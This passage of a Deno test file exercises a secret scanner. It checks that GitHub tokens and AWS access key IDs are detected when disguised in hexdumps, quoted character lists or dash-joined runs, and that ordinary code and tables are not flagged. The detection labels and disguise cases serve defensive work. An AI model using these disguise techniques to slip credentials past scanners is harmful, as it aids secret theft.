  assert.deepEqual(found(odNumbers(FILE, 10, 1, 3)).toSorted(), [
    "hexdump:aws-access-key-id",
    "hexdump:github-token",
  ]);
});

Deno.test("lists of characters in quotes that hold no token are no finding", () => {
  const alphabet = [..."abcdefghijklmnopqrstuvwxyz0123456789"];
  for (
    const t of [
      `VALID = [${alphabet.map((c) => `'${c}'`).join(", ")}]`,
      JSON.stringify({ content: `const keys = ${JSON.stringify(alphabet)};` }),
      JSON.stringify({ content: `[${alphabet.map((c) => `"${c}"`).join(", ")}]` }),
    ]
  ) {
    assert.deepEqual(found(t), [], t);
  }
});

Deno.test("characters joined past a long run of too few kinds are still read", () => {
  // Each run is read once, whole, from the first place the survey finds in it; a run
  // turned down (two kinds of character) is not read again from its other places.
  for (const before of [`${"g-h-".repeat(2000)}g`, `[${"'g', ".repeat(2000)}'g']`]) {
    for (
      const t of [`${before}\n${[...GH].join("-")}`, `${before}\n${quoted(GH, "'").join(", ")}`]
    ) {
      assert.deepEqual(found(t), ["hexdump:github-token"]);
    }
  }
});

Deno.test("deep code's indentation, lines of numbers' columns and a table of short words are no narrow dump", () => {
  const code = Array.from(
    { length: 40 },
    (_, i) =>
      `            ${["call(a, b),", "0, 1, 2, 3, 4, 5,", "face: add,", "x: 10, y: 20,"][i % 4]}`,
  ).join("\n");
  const table = Array.from({ length: 40 }, (_, i) => `| ${i}   | ${i * 7}  | bad  | cafe |`)
    .join("\n");
  for (const text of [code, table]) {
    for (const t of [text, JSON.stringify({ content: text })]) {
      assert.deepEqual(new KeywordMatcher([]).survey(t).dumps, [], t.slice(0, 200));
    }
  }
});

Deno.test("a narrow dump's lines are each a stretch of the survey, from its first line's (after a label) to its last", () => {
  const file = new TextEncoder().encode(FILE);
  const lines: string[] = [];
  for (let at = 0; at < file.length; at += 4) {
    const row = [...file.subarray(at, at + 4)];
    lines.push(
      `${h2(at).padStart(8, "0")}: ${
        row.map(h2).join("").replace(/(....)(?=.)/, "$1 ").padEnd(9)
      }  ${shown(row)}`,
    );
  }
  const text = `dump: ${lines.join("\n")}\n`;
  const dumps = new KeywordMatcher([]).survey(text).dumps;
  // One stretch a line (its text column up to a letter no hex digit is): the first past
  // the label's word (its `: ` are a dump's characters), each after it from its offset on.
  assert.equal(dumps.length, 2 * lines.length);
  assert.equal(text.slice(dumps[0]!, dumps[1]!), ": 00000000: 4150 495f  A");
  for (let k = 2; k < dumps.length; k += 2) {
    assert.match(text.slice(dumps[k]!, dumps[k]! + 10), /^[0-9a-f]{8}: $/);
  }
});
